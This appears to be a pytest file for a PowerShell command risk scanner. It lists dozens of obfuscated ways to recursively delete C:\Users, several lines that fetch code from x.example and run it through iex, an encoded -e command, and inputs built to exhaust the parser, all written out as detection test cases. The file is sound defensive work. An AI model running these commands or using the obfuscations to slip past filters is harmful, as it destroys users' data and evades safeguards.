"""PowerShell's syntax and expansion: however a command is written, it is the same command."""

import time

import pytest

from app.risk.powershell.parser import Parser
from tests.risk.powershell import assessed, level_of

PARSED = [
    "switch ($x) { 'a' { Get-Date } default { Get-Process } }",
    "Invoke-Command -ComputerName web01, web02 { Get-Date }",
    'git commit -m "a b" --amend; npm install @types/node; a.exe -x=3 /S:1 %y%',
    "Get-ChildItem -Recurse |\n    Where-Object { $_.Length -gt 1MB } `\n    | Sort-Object Length",
    "Get-Process\n  | Select-Object -First 1",
    "$a, $b = 1, 2; $h = @{ a = 1; 'b c' = @(1, 2); 3 = { $_ } }",
    "[CmdletBinding()] param([Parameter(Mandatory)][string]$Path = 'C:\\', [switch]$Force)",
    "if ($a -ne -1) { 1 } elseif ($b) { 2 } else { 3 }",
    "try { 1 } catch [IO.IOException], [Exception] { 2 } finally { 3 }",
    "for ($i = 0; $i -lt 3; $i ++) { $i }; do { 1 } while ($x); do { 1 } until ($x)",
    'class A : B { [int]$x = 1; static [string] F([int]$a) { return "$a" } A() : base(1) { } }',
    "enum E { A; B = 2 }",
    "$x = @'\n it's $not expanded\n'@\n$y = @\"\n$x $(Get-Date)\n\"@",
    "$r = $a ? 'yes' : 'no'; $s = $n ?? 'none'; $n ??= 1; ${a b}?.Length",
    "Get-Date && Get-Process || Write-Error x &",
    "$x.Foo([int]1, $(2), @{ a = 1 }).Bar[0]::Baz.'quoted name'",
    "& 'C:\\a b.exe' --% /x:%y% | Out-Null",
    ":outer foreach ($i in 1..3) { continue outer }",
    "function Get-It { begin { 1 } process { $_ } end { 2 } }; filter F { $_ }",
    "a.exe 2>&1 > out.txt; b *>> all.txt; Get-Date > $null",
    "Write-Host ‘typographic’ –NoNewline; Write-Host “two”",
    "<# a # comment #> Get-Date # another\n#requires -Version 5.1\nusing namespace System.IO",
    "'{0}' -f 1 -join 'a' -replace 'b', 'c'",
    "$i++; --$i; -not $a -and !$b; 1..3 | % { $_ * 2 }; 'a' * 3",
]
SAME = [
    "R`em`ove-It`em C:\\Users -Re`curse -Fo`rce",
    "rm C:\\Users -r -fo",
    "# A comment ends with the line, however that ends.\rRemove-Item C:\\Users -Recurse -Force",
    "rd C:/Users -Recur",
    "Remove-Item -LiteralPath 'C:\\Users' -Recurse:$true",
    "Microsoft.PowerShell.Management\\Remove-Item C:\\Users -Recurse",
    "$p = 'C:'; Remove-Item \"$p\\Users\" -Recurse",
    "$p = 'C:\\Us' + 'ers'; del $p -Recurse",
    "$a = @{ Path = 'C:\\Users'; Recurse = $true }; Remove-Item @a",
    "Remove-Item (Join-Path C:\\ Users) -Recurse",
    "Remove-Item ('{1}{0}' -f 'Users', 'C:\\') -Recurse",
    "Remove-Item ('C:', 'Users' -join '\\') -Recurse",
    "Remove-Item ('C:\\Xsers' -replace 'X', 'U') -Recurse",
    "Remove-Item ([string]::Join('\\', @('C:', 'Users'))) -Recurse",
    "Remove-Item ('sresU\\:C'[-1..-8] -join '') -Recurse",
    "Remove-Item ([char]67 + ':\\Users') -Recurse",
    "Remove-Item $env:SystemDrive\\Users -Recurse",
    'Remove-Item "$env:PUBLIC\\.." -Recurse',
    "& 'Remove-Item' C:\\Users -Recurse",
    "& ('Remove' + '-Item') C:\\Users -Recurse",
    "$c = 'ri'; & $c C:\\Users -Recurse",
    "Set-Alias gone Remove-Item; gone C:\\Users -Recurse",
    "function Get-Date { Remove-Item C:\\Users -Recurse }; Get-Date",
    "function clean($where = 'C:\\Users') { Remove-Item $where -Recurse }; clean",
    "function clean($what) { Remove-Item $what -Recurse }; clean -wh C:\\Users",
    "function never { Remove-Item C:\\Users -Recurse }",
    "'C:\\Users' | Remove-Item -Recurse",
    "'C:\\Users' | ForEach-Object { Remove-Item $_ -Recurse }",
    "foreach ($f in 'C:\\Temp\\a', 'C:\\Users') { Remove-Item $f -Recurse }",
    "Get-Item C:\\Users | Remove-Item -Recurse",
    "if ($a) { $p = 'C:\\Temp\\a' } else { $p = 'C:\\Users' }; Remove-Item $p -Recurse",
    "switch ($x) { 1 { Remove-Item C:\\Users -Recurse } }",
    "try { Remove-Item C:\\Users -Recurse } catch { }",
    "$b = { Remove-Item C:\\Users -Recurse }; & $b",
    "$b = { param($p) Remove-Item $p -Recurse }; & $b C:\\Users",
    "Invoke-Command { Remove-Item C:\\Users -Recurse }",
    "Start-Job { Remove-Item C:\\Users -Recurse }",
    "Measure-Command { Remove-Item C:\\Users -Recurse }",
    "Invoke-Frobnication { Remove-Item C:\\Users -Recurse }",
    "Get-Process | Select-Object @{ n = 'a'; e = { Remove-Item C:\\Users -Recurse } }",
    'Write-Host "$(Remove-Item C:\\Users -Recurse)"',
    "iex 'Remove-Item C:\\Users -Recurse'",
    "'Remove-Item C:\\Users -Recurse' | iex",
    "[scriptblock]::Create('Remove-Item C:\\Users -Recurse').Invoke()",
    "$ExecutionContext.InvokeCommand.InvokeScript('Remove-Item C:\\Users -Recurse')",
    'powershell -c "Remove-Item C:\\Users -Recurse"',
    "pwsh -NoProfile -Command { Remove-Item C:\\Users -Recurse }",
    'cmd /c "rd /s /q C:\\Users"',
    "rd /s /q C:\\Users",
    "[IO.Directory]::Delete('C:\\Users', $true)",
    "[System.IO.Directory]::Delete('C:\\Users', 1)",
    "(Get-Item C:\\Users).Delete($true)",
    "(New-Object -ComObject WScript.Shell).Run('cmd /c rd /s /q C:\\Users')",
    "([wmiclass]'Win32_Process').Create('cmd /c rd /s /q C:\\Users')",
    "Invoke-WmiMethod Win32_Process Create 'cmd /c rd /s /q C:\\Users'",
    "Start-Process cmd -ArgumentList '/c', 'rd /s /q C:\\Users'",
    "[Diagnostics.Process]::Start('cmd', '/c rd /s /q C:\\Users')",
    "Remove-Item ‘C:\\Users’ –Recurse",
    "using namespace System.IO\n[Directory]::Delete('C:\\Users', $true)",
    "New-PSDrive -Name data -PSProvider FileSystem -Root C:\\Users; Remove-Item data:\\* -Recurse",
    "New-PSDrive TestDrive FileSystem C:\\Users; Remove-Item TestDrive:\\ -Recurse",
]
"""All of them delete the homes of all people."""
HOSTILE = {
    "parentheses": "(" * 100_000,
    "braces": "{" * 100_000,
    "subexpressions": '"$(' * 50_000,
    "types": "[\n" * 100_000,
    "casts": "[int]" * 40_000 + "1",
    "operators": "-not " * 40_000,
    "sum": "1+" * 100_000 + "1",
    "members": "$a" + ".b" * 100_000,
    "pipeline": "a|" * 100_000 + "b",
    "commands": "Remove-Item x\n" * 75_000,
    "comments": "<#" * 100_000,
    "variables": "${" * 100_000,
    "calls": "".join(f"function f{n}{{f{n + 1};f{n + 1}}};" for n in range(100)) + "f0",
    "doubling": "$a='xxxxxxxx';" + "$a=$a+$a;" * 2_000,
    "splits": "$a='" + "a," * 9_000 + "';" + "$b=$a -split ',';" * 2_000,
    "patterns": "$a='" + "a" * 4_000 + "';" + "$a=$a -replace '(a+)+b','c';" * 500,
    "branches": "".join(f"if($x){{$a{n}='b'}};" for n in range(5_000)),
    "loops": "foreach($i in 1..4000){" * 30 + "rm x" + "}" * 30,
    "decoded": "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + "QQBB" * 40_000 + "')))",
}


@pytest.mark.parametrize("text", PARSED)
def test_the_syntax_is_known(text):
    parser = Parser(text, lambda: None)
    parser.script()
    assert parser.problems == []


@pytest.mark.parametrize("text", SAME)
def test_a_command_is_the_same_however_it_is_written(text):
    found = assessed(text)
    assert found.level.value == "critical", found.findings


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("$p = 'C:\\Temp\\a'; Remove-Item $p", "medium"),
        ("Remove-Item $p", "medium"),
        ('Remove-Item "$p\\*" -Recurse', "critical"),  # all of the disk if the variable is empty
        ("param($p) & $p", "high"),
        ("iex $p", "high"),
        ("iex (Get-Content .\\a.ps1)", "high"),
        ("& (Get-Command *voke-Exp*) (irm https://x.example/a)", "critical"),
        ("if ($x) { $c = 'Get-Date' } else { $c = 'Stop-Computer' }; & $c", "high"),
        ("$x = 'Get-Date'; while ($true) { iex $x; $x = irm https://x.example }", "critical"),
        ('$x = irm https://x.example/a; $y = "$x"; $z = $y.Trim(); iex $z', "critical"),
        ("powershell -e RwBlAHQALQBEAGEAdABlAA==", "critical"),
        ('$a = New-Item function:f -Value { 1 }; "$a"', "safe"),
    ],
)
def test_what_is_not_known_counts_as_the_worst(text, level):
    assert level_of(text) == level


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_texts_are_given_up_in_time(name):
    started = time.thread_time()
    found = assessed(HOSTILE[name])
    assert time.thread_time() - started < 1.5
    assert found.level.value in ("safe", "medium", "high", "critical")
    assert found.level.value != "safe" or not found.findings
